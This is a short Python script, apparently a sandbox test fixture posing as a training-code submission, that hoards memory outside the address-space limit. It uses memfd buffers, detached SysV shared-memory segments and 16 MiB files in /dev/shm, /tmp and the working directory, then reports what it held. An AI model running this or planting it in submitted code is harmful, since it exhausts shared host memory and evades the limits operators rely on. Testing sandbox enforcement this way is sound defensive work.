"""Attack: hold memory that is not address space (96 memfds of 16 MiB, SysV segments, tmpfs files) past the memory limit."""

import contextlib
import ctypes
import os

CHUNK = 16 << 20
HELD: list[object] = []
report = {"memfd": 0, "sysv": 0, "files": 0}

for _ in range(96):  # memfd pages are shared memory: never counted in RLIMIT_AS
    try:
        fd = os.memfd_create("hoard")
        os.ftruncate(fd, CHUNK)
        os.write(fd, b"\1" * CHUNK)
    except OSError:
        break
    HELD.append(fd)
    report["memfd"] += 1

libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(96):  # SysV segments outlive the mapping: attach, touch, detach, keep
    shmid = libc.shmget(0, CHUNK, 0o1600)  # IPC_PRIVATE | IPC_CREAT | 0600
    if shmid < 0:
        break
    addr = libc.shmat(shmid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(addr, 1, CHUNK)
    libc.shmdt(ctypes.c_void_p(addr))
    report["sysv"] += 1

for folder in ("/dev/shm", "/tmp", "."):  # tmpfs files are shared memory too
    for i in range(96):
        try:
            with open(os.path.join(folder, f"hoard-{i}"), "wb") as f:
                f.write(b"\1" * CHUNK)
            report["files"] += 1
        except OSError:
            with contextlib.suppress(OSError):
                os.unlink(os.path.join(folder, f"hoard-{i}"))
            break

print("HOARDED", report, flush=True)


def sigmoid(u):
    raise NotImplementedError


forward = loss = backward = train_step = sigmoid
